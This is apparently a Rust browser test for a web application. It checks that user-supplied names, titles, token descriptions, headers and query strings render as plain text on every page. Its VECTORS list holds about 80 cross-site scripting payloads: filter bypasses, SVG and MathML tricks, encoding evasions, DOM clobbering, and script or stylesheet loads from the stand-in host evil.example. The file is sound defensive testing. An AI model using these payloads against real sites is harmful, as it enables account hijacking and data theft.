//! SES-07: what people write is shown as what it is, text, on every page and in a real browser.

use claviger_auth::accounts::{self, NewAccount};
use claviger_auth::operator;
use claviger_domain::account::{AccountKind, SiteRole};
use claviger_domain::policy::Sudo;
use claviger_forge::projects::{self, NewProject};
use claviger_testkit::TestServer;
use claviger_testkit::browser::Browser;

/// One of each way in which text has become markup somewhere: elements, handlers, addresses, ends of what surrounds it,
/// comments, other parsers' corners, encodings, templates, and names that hide a page's own.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style></script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "\"><img src=x onerror=alert(1)>",
    "<img src=x onerror=&#97;lert(1)>",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
    "<svg><foreignObject><iframe src=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>parent.alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "x onmouseover=alert(1)",
    "<select autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<div style=\"position:fixed;inset:0;background:url(//evil.example)\">x</div>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
    "<xmp><img alt=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext>",
    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ shell.csrf }}",
    "${alert(1)}",
    "#{alert(1)}",
    "<%= alert(1) %>",
    "{ $name }",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "';alert(1)//",
    "\";alert(1)//",
    "`-alert(1)-`",
    "\\\";alert(1)//",
    "<img name=body><img id=csrf>",
    "<form id=main><input name=csrf value=evil>",
    "<a id=location href=//evil.example>x</a>",
];

/// What no page of ours has: whatever of it is there came out of a text.
const ALIVE: &str = "
    const ours = new Set(document.querySelectorAll('head > script, head > link, head > meta, head > title'));
    const foreign = 'script, style, img, iframe, object, embed, base, meta, link, video, audio, source, math, marquee,' +
        'template, xmp, listing, plaintext, noscript, dialog, animate, foreignObject, svg a, svg script, [style],' +
        '[srcdoc], [href^=\"javascript:\" i], [href^=\"data:text\" i], [href^=\"//\"], [action^=\"javascript:\" i],' +
        '[formaction^=\"javascript:\" i]';
    const handled = (element) => [...element.attributes].some((attribute) => attribute.name.startsWith('on'));
    const found = [...document.querySelectorAll('*')].filter((element) =>
        !ours.has(element) && (element.matches(foreign) || handled(element)));
    return found.map((element) => element.outerHTML.slice(0, 200));";

/// Opens the page, and demands that nothing on it came alive and that the browser had nothing to refuse.
async fn is_text(browser: &Browser, path: &str) {
    browser.open(path).await;
    let alive = browser.driver.execute(ALIVE, vec![]).await.unwrap_or_else(|error| panic!("{path}: {error}"));
    assert_eq!(alive.json().as_array().map(Vec::len), Some(0), "{path}: {}", alive.json());
    assert_eq!(browser.complaints().await, Vec::<String>::new(), "{path}");
}

fn encoded(text: &str) -> String {
    url::form_urlencoded::byte_serialize(text.as_bytes()).collect()
}

#[tokio::test]
async fn ses_07_what_people_write_is_text_on_every_page() {
    let server = TestServer::start().await;
    let (admin, operator) = (server.admin(), operator(&server.desk));
    let mut tokens = vec![];
    for (n, vector) in VECTORS.iter().enumerate() {
        tokens.push(admin.token().description(vector).make().await);
        let new = NewAccount {
            login: format!("person-{n}"),
            name: (*vector).to_owned(),
            email: String::new(),
            kind: AccountKind::Service,
            home_project: None,
            site_role: SiteRole::User,
            password: None,
        };
        accounts::create(&server.desk, &operator, Sudo::by_password(), new).await.unwrap();
        let title = (*vector).to_owned();
        let new = NewProject { name: format!("project-{n}"), title, private: false, owner: Some("admin".into()) };
        projects::create(&server.desk, &operator, new).await.unwrap();
        server.get("/v1/projects").bearer(&tokens[n]).header("user-agent", vector).send().await.assert(200);
        server
            .post("/v1/projects")
            .bearer(&tokens[n])
            .header("user-agent", vector)
            .body("application/json", "{}")
            .send()
            .await;
    }
    for (n, vector) in VECTORS.iter().enumerate() {
        let (project, login) = (format!("project-{}", n % 3), format!("person-{n}"));
        let role = claviger_domain::project::Role::Reader;
        claviger_forge::members::set(&server.desk, &operator, Sudo::by_password(), &project, &login, role)
            .await
            .unwrap();
        // a browser that calls itself so
        let mut pages = server.pages().header("user-agent", vector);
        if n < 12 {
            pages.sign_in(&admin).await;
        }
    }
    server.flush().await;
    let browser = Browser::start(&server).await;
    browser.sign_in(&admin).await;
    let id = |n: usize| tokens[n].id.to_string();
    let mut paths: Vec<String> = [
        "/tokens",
        "/tokens?page=2",
        "/tokens/new",
        "/projects",
        "/projects?page=2",
        "/sessions",
        "/profile",
        "/profile/security",
        "/admin",
        "/admin/people",
        "/admin/people?page=2",
        "/admin/credentials",
        "/admin/credentials?page=2",
        "/admin/audit",
        "/admin/audit?page=2",
        "/admin/audit?page=3",
        "/admin/routes",
        "/admin/settings",
        "/admin/health",
        "/projects/project-0",
        "/projects/project-1",
        "/projects/project-2",
    ]
    .map(str::to_owned)
    .into();
    for (n, vector) in VECTORS.iter().enumerate() {
        let words = encoded(vector);
        if n % 2 == 0 {
            paths.push(format!("/tokens?q={words}"));
        }
        if n % 8 == 0 {
            paths.extend([format!("/tokens/{}", id(n)), format!("/projects/project-{n}/delete")]);
            for page in ["edit", "copy", "remove", "rotate"] {
                paths.push(format!("/tokens/{}/{page}", id(n)));
            }
            for page in ["", "/delete", "/disable"] {
                paths.push(format!("/admin/people/person-{n}{page}"));
            }
            for list in ["/projects", "/admin/people", "/admin/credentials", "/admin/audit"] {
                paths.push(format!("{list}?q={words}"));
            }
            paths.push(format!("/projects/project-{n}/edit"));
            paths.push(format!("/tokens?owner={words}&state={words}&sort={words}&dir={words}&page={words}"));
            paths.push(format!(
                "/tokens/new?description={words}&set={words}&method={words}&project={words}&days={words}"
            ));
            paths.push(format!("/sign-in?next={words}&said={words}&error={words}"));
            paths.push(format!("/{}", words.replace('+', "%20")));
        }
    }
    for path in &paths {
        is_text(&browser, path).await;
    }

    // a program's name, where a person is asked about it
    for (n, vector) in VECTORS.iter().enumerate().step_by(8) {
        let named = |new: &mut claviger_auth::consumers::NewConsumer| {
            (new.name, new.description) = ((*vector).to_owned(), (*vector).to_owned());
        };
        let asked = server.link_with(&format!("link-{n}"), named).await.request_token().await;
        is_text(&browser, &format!("/plugins/servlet/oauth/authorize?oauth_token={}", asked.token)).await;
    }

    // what is wrong with a field is said with what was typed
    for vector in VECTORS.iter().step_by(20) {
        browser.open("/tokens/new").await;
        let bold = "document.querySelector('form.beside').noValidate = true";
        browser.driver.execute(bold, vec![]).await.unwrap();
        browser.click("details.more summary").await;
        browser.fill("#cidrs", vector).await;
        browser.click(".actions button[value=save]").await;
        browser.sees_element("[data-faults]").await;
        let alive = browser.driver.execute(ALIVE, vec![]).await.unwrap();
        assert_eq!(alive.json().as_array().map(Vec::len), Some(0), "{vector}: {}", alive.json());
        assert_eq!(browser.complaints().await, Vec::<String>::new(), "{vector}");
    }
    browser.end().await;
}
